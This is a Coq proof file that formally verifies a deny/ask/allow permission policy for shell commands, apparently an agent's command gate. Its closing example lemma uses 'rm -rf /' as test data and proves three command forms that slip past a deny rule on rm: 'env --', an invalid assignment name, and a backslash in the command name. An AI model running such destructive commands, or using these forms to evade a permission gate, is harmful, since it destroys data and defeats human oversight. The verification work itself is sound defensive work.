Definition hits (c : PermissionConfig) (access : AccessKind) (a : RuleAction) : bool :=
  existsb (matched_by access a) (rules c).

Lemma zip_compiled (rs : list PermissionRule) :
  zip rs (compile_matcher <$> rs) = (fun r => (r, compile_matcher r)) <$> rs.
Proof. induction rs as [|r rs IH]; [done|]. cbn. f_equal. exact IH. Qed.

Lemma scan_rules_spec access rs ask allow :
  scan_rules access ((fun r => (r, compile_matcher r)) <$> rs) ask allow =
  match find (matched_by access RuleDeny) rs with
  | Some r => inl (deny_reason r)
  | None => inr (ask || existsb (matched_by access RuleAsk) rs, allow || existsb (matched_by access RuleAllow) rs)
  end.
Proof.
  revert ask allow. induction rs as [|r rs IH]; intros ask allow; [by rewrite !orb_false_r|].
  rewrite fmap_cons. cbn [scan_rules find existsb].
  assert (Hm : forall a, matched_by access a r =
    tool_filter_matches access (tool r) && pattern_matches access r (compile_matcher r) && bool_decide (action r = a)) by done.
  rewrite !Hm.
  destruct (tool_filter_matches _ _ && pattern_matches _ _ _); [|exact (IH _ _)].
  destruct (action r); rewrite ?IH; repeat (case_bool_decide; try done); cbn [andb orb];
    destruct (find _ rs); try done; by rewrite ?orb_true_r.
Qed.

(** One level of the allowance of a script. *)
Definition inner_allowed (po : CompiledPolicy) (d : nat) : option (string -> bool) :=
  match d with O => None | S d' => Some (bash_chain_fully_allowed po d') end.
Lemma chain_eq po d s :
  bash_chain_fully_allowed po d s =
  match script_commands s with
  | None | Some [] => false
  | Some segs => forallb (bash_segment_allowed po (inner_allowed po d)) segs
  end.
Proof. by destruct d. Qed.

Lemma segment_allowed_spec po inner p :
  bash_segment_allowed po inner p = true <->
  ~ reserved (plain_words p) /\ bash_words_allowed po (words (normalize_command_words (plain_words p))) = true /\
  forall s', shell_script (plain_words p) s' -> exists f, inner = Some f /\ f s' = true.
Proof.
  unfold bash_segment_allowed, reserved, shell_script. set (m := normalize_command_words (plain_words p)).
  assert (Hc : exhausted m || ambiguous m || env_options_uncertain m || has_split_string m = negb (clean_norm m))
    by (unfold clean_norm; by rewrite negb_involutive).
  rewrite Hc. destruct (clean_norm m); cbn [negb]; [|naive_solver].
  destruct (bash_words_allowed po (words m)); [|naive_solver].
  destruct (shell_dash_c_script (LiteralWord <$> words m)) as [|i| |] eqn:Es.
  - split; [|done]. intros _. split_and!; [|done|naive_solver]. intros [?|?]; [done|set_solver].
  - destruct (dash_c_script_word _ _ Es) as [s' Hi]. rewrite Hi. destruct inner as [f|]; split.
    + intros Hf. split_and!; [intros [?|?]; [done|set_solver]|done|]. intros s2 (j & [= <-] & Hj). exists f. split; [done|congruence].
    + intros (_ & _ & Hf). destruct (Hf s') as (f' & [= <-] & ?); [eauto|done].
    + done.
    + intros (_ & _ & Hf). destruct (Hf s') as (f' & [=] & _). eauto.
  - split; [done|]. intros [Hn _]. destruct Hn. right. set_solver.
  - split; [done|]. intros [Hn _]. destruct Hn. right. set_solver.
Qed.

Lemma blank_cases R d s :
  blank R d s <-> script_commands s = Some [] \/
    exists d' w s', d = S d' /\ command_of s w /\ R w s' /\ blank R d' s'.
Proof.
  split; [intros []; naive_solver|].
  intros [?|(d' & w & s' & -> & ? & ? & ?)]; [by apply blank_here|by eapply blank_inner].
Qed.

Lemma chain_step po d s :
  bash_chain_fully_allowed po d s = true <->
  script_commands s <> None /\ script_commands s <> Some [] /\
  forall w, command_of s w -> ~ reserved w /\ bash_words_allowed po (words (normalize_command_words w)) = true /\
    forall s', shell_script w s' -> exists f, inner_allowed po d = Some f /\ f s' = true.
Proof.
  rewrite chain_eq. unfold command_of. destruct (script_commands s) as [[|p0 segs]|] eqn:Es; [naive_solver| |naive_solver].
  rewrite forallb_forall. split.
  - intros Hf. split_and!; [done|done|]. intros w (segs' & p & [= <-] & Hp & <-).
    apply segment_allowed_spec. apply Hf. by apply list_elem_of_In.
  - intros (_ & _ & Hf) p Hp. apply segment_allowed_spec, Hf. exists (p0 :: segs), p.
    split_and!; [done|by apply list_elem_of_In|done].
Qed.

(** Everything that a script runs is allowed, and everything is clear. *)
Lemma chain_spec po d s :
  bash_chain_fully_allowed po d s = true <->
  (forall w, runs shell_script d s w -> bash_words_allowed po (words (normalize_command_words w)) = true) /\
  ~ unclear shell_script reserved d s /\ ~ blank shell_script d s.
Proof.
  revert s. induction d as [|d IH]; intros s; rewrite chain_step; rewrite unclear_cases, blank_cases; setoid_rewrite runs_cases;
    cbn [inner_allowed].
  - split.
    + intros (H1 & H2 & Hw). split_and!.
      * intros w [?|(? & ? & ? & [=] & _)]. by apply Hw.
      * intros [?|(w & Hc & [?|(s' & Hs & _)])]; [done|by apply (Hw w Hc)|]. destruct (Hw w Hc) as (_ & _ & Hf).
        by destruct (Hf _ Hs) as (? & [=] & _).
      * intros [?|(? & ? & ? & [=] & _)]. done.
    + intros (Ha & Hu & Hb). split_and!; [tauto|tauto|]. intros w Hc. split_and!; [|by apply Ha; left|].
      * intros Hr. apply Hu. right. eauto.
      * intros s' Hs. destruct Hu. right. eauto 6.
  - split.
    + intros (H1 & H2 & Hw).
      assert (Hi : forall w s', command_of s w -> shell_script w s' -> bash_chain_fully_allowed po d s' = true).
      { intros w s' Hc Hs. destruct (Hw w Hc) as (_ & _ & Hf). by destruct (Hf _ Hs) as (? & [= <-] & ?). }
      setoid_rewrite IH in Hi. split_and!.
      * intros w [?|(? & ? & ? & [= <-] & ? & ? & ?)]; [by apply Hw|]. by eapply Hi.
      * intros [?|(w & Hc & [?|(s' & Hs & ?)])]; [done|by apply (Hw w Hc)|].
        destruct (Hi w s' Hc Hs) as (_ & Hu & _). by apply Hu.
      * intros [?|(? & w & s' & [= <-] & Hc & Hs & ?)]; [done|]. destruct (Hi w s' Hc Hs) as (_ & _ & Hb). by apply Hb.
    + intros (Ha & Hu & Hb). split_and!; [tauto|tauto|]. intros w Hc. split_and!; [|by apply Ha; left|].
      * intros Hr. apply Hu. right. eauto.
      * intros s' Hs. eexists. split; [done|]. apply IH. split_and!.
        -- intros w' ?. apply Ha. right. eauto 8.
        -- intros ?. apply Hu. right. eauto 6.
        -- intros ?. apply Hb. right. eauto 8.
Qed.

Lemma existsb_elem {A} (f : A -> bool) l : existsb f l = true <-> exists x, x ∈ l /\ f x = true.
Proof. rewrite existsb_exists. by setoid_rewrite list_elem_of_In. Qed.

(** Some allow rule for shell commands covers the words. *)
Definition granted (c : PermissionConfig) (ws : list string) : Prop :=
  ws <> [] /\ exists rule, rule ∈ rules c /\ action rule = RuleAllow /\ for_bash rule = true /\
    bash_allow_pattern_matches (words_text ws) rule (compile_matcher rule) = true.

Lemma words_allowed_spec c ws : bash_words_allowed (policy_new c) ws = true <-> granted c ws.
Proof.
  unfold bash_words_allowed, granted, policy_new. cbn [config matchers].
  destruct ws as [|w ws]; [split; [done|naive_solver]|]. rewrite zip_compiled, existsb_elem. split.
  - intros ([rule m] & (r' & E & Hr)%list_elem_of_fmap & Hb). injection E as -> ->.
    apply andb_true_iff in Hb as [[Ha Hf]%andb_true_iff Hm]. apply bool_decide_eq_true in Ha. split; [done|]. eauto.
  - intros [_ (rule & Hr & Ha & Hf & Hm)]. exists (rule, compile_matcher rule).
    split; [apply list_elem_of_fmap; eauto|]. rewrite bool_decide_eq_true_2, Hf, Hm by done. done.
Qed.

(** Every command that the script runs is granted, and all of it is clear. *)
Definition script_granted (c : PermissionConfig) (cmd : string) : Prop :=
  (forall w, runs shell_script MAX_INLINE_SHELL_DEPTH cmd w -> granted c (words (normalize_command_words w))) /\
  ~ unclear shell_script reserved MAX_INLINE_SHELL_DEPTH cmd /\ ~ blank shell_script MAX_INLINE_SHELL_DEPTH cmd.

Lemma chain_granted c cmd :
  bash_chain_fully_allowed (policy_new c) MAX_INLINE_SHELL_DEPTH cmd = true <-> script_granted c cmd.
Proof. rewrite chain_spec. unfold script_granted. by setoid_rewrite words_allowed_spec. Qed.

(** The flag of the policy only saves work. *)
Lemma allow_flag c cmd : script_granted c cmd -> has_bash_allow_rules (policy_new c) = true.
Proof.
  intros (Hg & Hu & Hb). destruct (script_commands cmd) as [[|p segs]|] eqn:Es.
  - destruct Hb. by apply blank_here.
  - destruct (Hg (plain_words p)) as (_ & rule & Hr & Ha & Hf & _).
    { apply runs_here. exists (p :: segs), p. split_and!; [done|set_solver|done]. }
    cbn. apply existsb_elem. exists rule. by rewrite Ha, Hf.
  - destruct Hu. by apply unclear_script.
Qed.

Lemma evaluate_eq c access :
  evaluate (policy_new c) access =
  match find (matched_by access RuleDeny) (rules c) with
  | Some rule => Some (Reject (deny_reason rule))
  | None =>
      if hits c access RuleAsk then Some Ask
      else match access with
      | Bash cmd => if bash_chain_fully_allowed (policy_new c) MAX_INLINE_SHELL_DEPTH cmd then Some Allow else None
      | _ => if hits c access RuleAllow then Some Allow else None
      end
  end.
Proof.
  unfold evaluate. cbn [config matchers policy_new]. rewrite zip_compiled, scan_rules_spec.
  destruct (find _ _); [done|]. cbn [orb]. fold (hits c access RuleAsk) (hits c access RuleAllow).
  destruct (hits c access RuleAsk); [done|]. destruct access; try done.
  destruct (bash_chain_fully_allowed _ _ _) eqn:Ec; [|by rewrite andb_false_r].
  apply chain_granted, allow_flag in Ec. fold (policy_new c). by rewrite Ec.
Qed.

Lemma find_deny c access :
  match find (matched_by access RuleDeny) (rules c) with
  | Some rule => rule ∈ rules c /\ matched_by access RuleDeny rule = true /\ hits c access RuleDeny = true
  | None => hits c access RuleDeny = false
  end.
Proof.
  unfold hits. destruct (find _ _) as [rule|] eqn:Ef.
  - apply find_some in Ef as [Hi Hm]. rewrite list_elem_of_In. split_and!; [done..|]. apply existsb_exists. eauto.
  - apply not_true_iff_false. intros (r & Hr & Hm)%existsb_exists. by rewrite (find_none _ _ Ef r Hr) in Hm.
Qed.

(** What is allowed when no deny or ask rule matches. *)
Definition access_granted (c : PermissionConfig) (access : AccessKind) : Prop :=
  match access with
  | Bash cmd => script_granted c cmd
  | _ => hits c access RuleAllow = true
  end.

(** A verdict without the text of its reason. *)
Definition verdict (d : option Decision) : option Decision :=
  match d with Some (Reject _) => Some (Reject "") | _ => d end.

Lemma evaluate_verdict c access :
  match evaluate (policy_new c) access with
  | Some (Reject r) => hits c access RuleDeny = true /\
      exists rule, rule ∈ rules c /\ matched_by access RuleDeny rule = true /\ r = deny_reason rule
  | Some Ask => hits c access RuleDeny = false /\ hits c access RuleAsk = true
  | Some Allow => hits c access RuleDeny = false /\ hits c access RuleAsk = false /\ access_granted c access
  | None => hits c access RuleDeny = false /\ hits c access RuleAsk = false /\ ~ access_granted c access
  | _ => False
  end.
Proof.
  rewrite evaluate_eq. pose proof (find_deny c access) as Hd.
  destruct (find _ _) as [rule|]; [naive_solver|]. destruct (hits c access RuleAsk) eqn:Ea; [done|].
  unfold access_granted. destruct access; try (destruct (hits c _ RuleAllow); naive_solver).
  destruct (bash_chain_fully_allowed _ _ _) eqn:Ec; split_and!; try done; rewrite <- chain_granted; congruence.
Qed.

Lemma hits_perm c c' access a : rules c ≡ₚ rules c' -> hits c access a = hits c' access a.
Proof.
  intros Hp. apply eq_true_iff_eq. unfold hits. rewrite !existsb_elem. by setoid_rewrite Hp.
Qed.
Lemma access_granted_perm c c' access : rules c ≡ₚ rules c' -> access_granted c access <-> access_granted c' access.
Proof.
  intros Hp. unfold access_granted, script_granted, granted.
  destruct access; try (by rewrite (hits_perm c c')). by setoid_rewrite Hp.
Qed.

(** C11.  The verdict of the policy on an access: a deny rule that matches rejects
    it with the reason of such a rule, otherwise an ask rule that matches asks,
    otherwise an allow rule allows it, a shell script only if every command it
    runs is allowed; the order of the rules does not matter. *)
Theorem evaluate_exact c access :
  match evaluate (policy_new c) access with
  | Some (Reject r) => exists rule, rule ∈ rules c /\ matched_by access RuleDeny rule = true /\ r = deny_reason rule
  | Some Ask => hits c access RuleDeny = false /\ hits c access RuleAsk = true
  | Some Allow => hits c access RuleDeny = false /\ hits c access RuleAsk = false /\ access_granted c access
  | None => hits c access RuleDeny = false /\ hits c access RuleAsk = false /\ ~ access_granted c access
  | _ => False
  end /\
  forall c', rules c ≡ₚ rules c' ->
    verdict (evaluate (policy_new c) access) = verdict (evaluate (policy_new c') access).
Proof.
  split.
  - pose proof (evaluate_verdict c access) as H1. by destruct (evaluate _ _) as [[]|]; naive_solver.
  - intros c' Hp. pose proof (evaluate_verdict c access) as H1. pose proof (evaluate_verdict c' access) as H2.
    pose proof (hits_perm c c' access RuleDeny Hp). pose proof (hits_perm c c' access RuleAsk Hp).
    pose proof (access_granted_perm c c' access Hp).
    destruct (evaluate (policy_new c) access) as [[]|], (evaluate (policy_new c') access) as [[]|]; cbn;
      destruct_and?; try done; try congruence; tauto.
Qed.

(** *** The gate against the rules *)

Lemma escalate_rank c access n :
  1 <= n -> n <= grank (escalate (policy_new c) access) <->
  (n <= 3 /\ hits c access RuleDeny = true) \/ (n <= 2 /\ hits c access RuleAsk = true /\ hits c access RuleDeny = false).
Proof.
  intros Hn. unfold escalate. pose proof (evaluate_verdict c access) as Hv.
  destruct (evaluate _ _) as [[]|]; cbn [grank from_option rank]; destruct_and?; intuition (lia || congruence).
Qed.

(** Without restricting rules for shell commands nothing is escalated. *)
Lemma no_restriction c cmd a :
  has_bash_command_restrictions (policy_new c) = false -> a <> RuleAllow -> hits c (Bash cmd) a = false.
Proof.
  cbn. intros Hf Ha. apply not_true_iff_false. unfold hits. intros (r & Hr & Hm)%existsb_elem.
  apply not_true_iff_false in Hf. apply Hf, existsb_elem. exists r. split; [done|].
  unfold matched_by, matched in Hm. apply andb_true_iff in Hm as [[Ht _]%andb_true_iff Hact].
  apply bool_decide_eq_true in Hact. unfold restricts, for_bash. apply andb_true_iff. rewrite !bool_decide_eq_true.
  destruct (action r), (tool r); cbn in *; naive_solver.
Qed.

(** No rule of that action matches any form of any command that is run. *)
Definition untouched (c : PermissionConfig) (cmd : string) (a : RuleAction) : Prop :=
  forall w f, runs inner_script MAX_INLINE_SHELL_DEPTH cmd w -> form w f -> hits c (Bash f) a = false.

Lemma segments_untouched c cmd :
  grank (evaluate_bash_command_segments (policy_new c) MAX_INLINE_SHELL_DEPTH cmd) < 3 -> untouched c cmd RuleDeny.
Proof.
  intros Hg w f Hr Hf. apply not_true_iff_false. intros Hh.
  assert (H3 : 3 <= grank (evaluate_bash_command_segments (policy_new c) MAX_INLINE_SHELL_DEPTH cmd)).
  { apply segments_rank; [lia|]. left. exists w, f. split_and!; [done..|]. apply escalate_rank; [lia|]. left. by split. }
  lia.
Qed.
Lemma segments_unasked c cmd :
  grank (evaluate_bash_command_segments (policy_new c) MAX_INLINE_SHELL_DEPTH cmd) < 2 -> untouched c cmd RuleAsk.
Proof.
  intros Hg w f Hr Hf. apply not_true_iff_false. intros Hh.
  assert (H2 : 2 <= grank (evaluate_bash_command_segments (policy_new c) MAX_INLINE_SHELL_DEPTH cmd)).
  { apply segments_rank; [lia|]. left. exists w, f. split_and!; [done..|]. apply escalate_rank; [lia|].
    destruct (hits c (Bash f) RuleDeny) eqn:Ed; [left|right]; split; auto; lia. }
  lia.
Qed.


(** *** Deny covers at least what allow does *)

Lemma allow_within_deny cmd rule m :
  bash_allow_pattern_matches cmd rule m = true -> pattern_matches (Bash cmd) rule m = true.
Proof.
  unfold bash_allow_pattern_matches, pattern_matches. destruct (pattern rule) as [p|]; [|done].
  case_bool_decide; [done|]. cbn [orb]. intros Hm. apply orb_true_iff in Hm as [Hm| ->]; [|by rewrite orb_true_r].
  unfold matches_command_prefix in Hm. apply orb_true_iff in Hm as [Hm|[-> _]%andb_true_iff]; [|done].
  apply bool_decide_eq_true in Hm. rewrite Hm.
  assert (starts_with p p = true) as ->; [|done]. apply starts_with_spec. exists "". by rewrite str_app_nil_r.
Qed.

End Policy.

(** ** Scripts of one command *)

(** A parser for scripts of plain words, as the grammar of the shell reads them:
    for the evaluation of examples. *)
Fixpoint word_nodes (pos : nat) (ws : list string) : list Node :=
  match ws with
  | [] => []
  | w :: r => mkNode "word" true pos (pos + String.length w) None [] :: word_nodes (pos + String.length w + 1) r
  end.
Definition one_command (cmd : string) : Tree :=
  let len := String.length cmd in
  let nodes := match word_nodes 0 (split_char " " cmd) with
               | [] => []
               | w :: args => mkNode "command_name" true (start_byte w) (end_byte w) (Some "name") [w] :: args
               end in
  mkTree (mkNode "program" true 0 len None [mkNode "command" true 0 len None nodes]) false.
Definition words_env : PolicyEnv :=
  {| glob_pattern := unit; glob_new := fun _ => None; glob_matches_with := fun _ _ _ => false;
     url_host := fun _ => None; try_parse_shell := fun s => Some (one_command s) |}.

Definition deny_rm : PermissionConfig := config_new [mkRule RuleDeny BashTool (Some "rm") Glob].
Definition rm_gate (cmd : string) : option GateDecision :=
  @evaluate_bash_command_gate words_env ascii_env (@policy_new words_env deny_rm) cmd.

(** The gate sees through wrappers, but neither through an assignment that [env]
    takes after [--] or with a name that is no identifier, nor through a
    backslash in the name of the command, which the shell drops. *)
Lemma gate_reach :
  rm_gate "timeout 5 rm -rf /" = Some (GateReject (deny_reason (mkRule RuleDeny BashTool (Some "rm") Glob))) /\
  rm_gate "env A=1 rm -rf /" = Some (GateReject (deny_reason (mkRule RuleDeny BashTool (Some "rm") Glob))) /\
  rm_gate "env -- A=1 rm -rf /" = None /\ rm_gate "env 1A=1 rm -rf /" = None /\ rm_gate "r\m -rf /" = None.
Proof. by vm_compute. Qed.
